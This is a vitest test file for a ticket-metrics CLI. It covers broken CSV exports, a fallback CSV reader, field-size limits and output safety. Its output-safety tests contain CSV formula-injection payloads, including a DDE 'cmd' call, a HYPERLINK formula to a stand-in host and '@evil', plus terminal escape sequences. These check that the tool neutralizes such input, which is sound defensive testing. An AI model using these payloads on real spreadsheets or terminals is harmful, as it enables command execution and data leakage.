/**
 * The broken-export corpus (fixtures/broken/, expectations in expected.json): every file either gives
 * coded row issues with a consistent accounting, or a clear exit 3 naming the file and what to do.
 * Plus the output-safety checks that need the real binary: formula neutralization in CSV and the
 * rejects file, control characters in stderr, --excel and --output-delimiter, and a 50 MB field.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseReport, readJson, runCli } from './helpers.js';

interface BrokenCase {
  file: string;
  args?: string[];
  exit: number;
  encoding?: string;
  read?: number;
  rejected?: number;
  nulled?: number;
  blank?: number;
  issues?: Record<string, number>;
  stderr?: string[];
  groups?: string[];
  frt?: Record<string, number>;
  resolution_full?: Record<string, number>;
  as_of?: string;
}

const { cases } = readJson<{ cases: BrokenCase[] }>('fixtures/broken/expected.json');
const base = [
  'report',
  '--config',
  'fixtures/broken/opsmetrics.config.yml',
  '--format',
  'json',
  '--max-bad-rows',
  '100',
];
const work = mkdtempSync(join(tmpdir(), 'opsmetrics-broken-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

describe.concurrent('broken exports (fixtures/broken/expected.json)', () => {
  it.each(cases.map((c) => [`${c.file} ${(c.args ?? []).join(' ')}`.trim(), c] as const))('%s', async (_name, c) => {
    const args = [...base, ...(c.args ?? []), ...(c.groups ? ['--by', 'team'] : []), `fixtures/broken/${c.file}`];
    const result = await runCli(args);
    expect(result.code, result.stderr).toBe(c.exit);
    expect(result.stderr).not.toMatch(/internal error|\n\s+at /);
    for (const text of c.stderr ?? []) expect(result.stderr).toContain(text);
    if (c.exit !== 0) {
      expect(result.stdout).toBe('');
      expect(result.stderr).toMatch(/^opsmetrics: error: .+\n {2}hint: .+/m);
      return;
    }
    const report = parseReport(result);
    const input = report.input as typeof report.input & { files: { encoding: string }[] };
    // Nothing lost: every row read is used, outside the window, a duplicate, or rejected.
    expect(input.read).toBe(input.used + input.skipped.outside_period + input.skipped.duplicate + input.rejected);
    if (c.read !== undefined) expect(input.read).toBe(c.read);
    if (c.rejected !== undefined) expect(input.rejected).toBe(c.rejected);
    if (c.nulled !== undefined) expect(input.nulled).toBe(c.nulled);
    if (c.blank !== undefined) expect(input.skipped.blank).toBe(c.blank);
    if (c.encoding !== undefined) {
      expect(input.files[0]?.encoding).toBe(c.encoding);
      expect(result.stderr).toContain(`(generic, ${c.encoding},`);
    }
    const counts: Record<string, number> = {};
    for (const issue of input.issues) counts[issue.code] = (counts[issue.code] ?? 0) + issue.count;
    expect(counts).toEqual(c.issues ?? {});
    if (c.groups) expect(report.rows.map((row) => row.group.team).sort()).toEqual([...c.groups].sort());
    const metrics = report.rows[0]?.metrics ?? {};
    if (c.frt) expect(metrics.frt).toMatchObject(c.frt);
    if (c.resolution_full) expect(metrics.resolution_full).toMatchObject(c.resolution_full);
    if (c.as_of) expect(report.window.as_of).toBe(c.as_of);
  });

  // Alone (it times its run), not beside the other cases.
  it('refuses a 50 MB field quickly, naming the file, the line and the option to raise the limit', {
    sequential: true,
    timeout: 60_000,
  }, async () => {
    const path = join(work, 'huge-field.csv');
    writeFileSync(
      path,
      `id,created,solved,frt,team,reopens\n1,2025-11-17T09:00Z,,,"${'x'.repeat(50 * 1024 * 1024)}",0\n`,
    );
    const started = Date.now();
    const result = await runCli([...base, path]);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain(`${path}:2`);
    expect(result.stderr).toContain('larger than 10 MiB');
    expect(result.stderr).toContain('--max-field-mib');
    // Far below "minutes": the cap stops the parser long before the end of the field.
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});

describe.concurrent('the fast reader giving way', () => {
  const args = [...base, 'fixtures/broken/bad-quoting.csv'];

  it('says which file went to the reference reader and why, once, and the report is the reference one', async () => {
    const [fast, reference] = await Promise.all([
      runCli(args),
      runCli(args, { env: { OPSMETRICS_ENGINE: 'reference' } }),
    ]);
    expect(fast.code, fast.stderr).toBe(0);
    const notes = fast.stderr.split('\n').filter((line) => line.startsWith('opsmetrics: note:'));
    expect(notes).toEqual([
      'opsmetrics: note: fixtures/broken/bad-quoting.csv: read again with the reference CSV reader (the fast ' +
        'one gave way: a double quote inside an unquoted field); the figures are the same, the run only slower',
    ]);
    // The reference engine never gives way: no note; apart from it the two runs print the same.
    expect(reference.stderr).not.toContain('note:');
    expect(fast.stderr.replace(`${notes[0]}\n`, '')).toBe(reference.stderr);
    expect(fast.stdout).toBe(reference.stdout);
  });

  it('is quiet with --quiet', async () => {
    const result = await runCli([...args, '--quiet']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toBe('');
  });
});

describe.concurrent('output safety', () => {
  const injection = 'fixtures/broken/injection.csv';

  it('neutralizes formula cells in CSV output, and --no-formula-escape turns it off', async () => {
    const result = await runCli([
      ...base.slice(0, 3),
      '--format',
      'csv',
      '--by',
      'team',
      '--max-bad-rows',
      '1',
      injection,
    ]);
    expect(result.code, result.stderr).toBe(0);
    const teams = result.stdout
      .trim()
      .split('\n')
      .slice(1)
      .map((line) => line.split(',')[3] ?? '');
    expect(teams).toEqual(
      expect.arrayContaining([
        '"\'=HYPERLINK(""http://x.example/?""&A1;""click"")"',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3",
        "'＝1+1",
      ]),
    );
    const raw = await runCli([
      ...base.slice(0, 3),
      '--format',
      'csv',
      '--by',
      'team',
      '--max-bad-rows',
      '1',
      '--no-formula-escape',
      injection,
    ]);
    expect(raw.stdout).toContain('\n');
    expect(raw.stdout).toMatch(/,@SUM\(1\+1\),/);
  });

  it('neutralizes formula cells in the rejects file and keeps the raw record verbatim', async () => {
    const rejects = join(work, 'rejects.csv');
    const path = join(work, 'reject-formula.csv');
    writeFileSync(path, 'id,created,solved,frt,team,reopens\n=1+2,not a date,,,@evil,0\n');
    const result = await runCli([...base.slice(0, 5), '--rejects', rejects, path]);
    expect(result.code).toBe(3);
    const lines = readFileSync(rejects, 'utf8').trim().split('\n');
    expect(lines[0]).toBe('file,line,action,code,column,value,message,record');
    // The record column starts with "=1+2": neutralized as a whole, its content kept.
    expect(lines[1]?.endsWith(`,"'=1+2,not a date,,,@evil,0"`)).toBe(true);
  });

  it('strips escape sequences and CR from stderr messages that echo values', async () => {
    const result = await runCli([...base, injection]);
    expect(result.code).toBe(0);
    expect(result.stderr).not.toMatch(/[\u001b\u0007\r]/);
    expect(result.stderr).toContain('"red"');
  });

  it('strips escape sequences from error messages that quote the header', async () => {
    const path = join(work, 'esc-header.csv');
    writeFileSync(path, '\u001b]0;pwned\u0007\u001b[31mTicket\u001b[0m,Opened\n1,2025-11-17\n');
    const result = await runCli(['report', path]);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain('Ticket');
    expect(result.stderr).not.toMatch(/[\u001b\u0007\r]/);
  });

  it('strips control characters from the terminal table', async () => {
    const result = await runCli([
      ...base.slice(0, 3),
      '--format',
      'table',
      '--by',
      'team',
      '--max-bad-rows',
      '1',
      injection,
    ]);
    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(/[\u001b\u0007\r]/);
    expect(result.stdout).toContain('Esc');
  });

  it('--excel writes a BOM and CRLF, and --output-delimiter ";" suits European Excel', async () => {
    const result = await runCli([
      ...base.slice(0, 3),
      '--format',
      'csv',
      '--excel',
      '--output-delimiter',
      ';',
      'fixtures/broken/utf8-bom.csv',
    ]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout.startsWith('\uFEFFperiod;period_start;')).toBe(true);
    expect(result.stdout.split('\r\n').length).toBe(3);
    expect(result.stdout.replace(/\r\n/g, '')).not.toContain('\n');
  });

  it('leaves neither the output file nor a temporary file when the run fails', async () => {
    const dir = mkdtempSync(join(work, 'atomic-'));
    const output = join(dir, 'report.csv');
    const result = await runCli([...base.slice(0, 3), '-o', output, 'fixtures/broken/ragged.csv']);
    expect(result.code).toBe(3);
    expect(existsSync(output)).toBe(false);
    expect(readdirSync(dir)).toEqual([]);
    const fatal = await runCli([
      ...base.slice(0, 3),
      '-o',
      output,
      '--max-bad-rows',
      '9',
      'fixtures/broken/unclosed-quote.csv',
    ]);
    expect(fatal.code).toBe(3);
    expect(readdirSync(dir)).toEqual([]);
  });
});
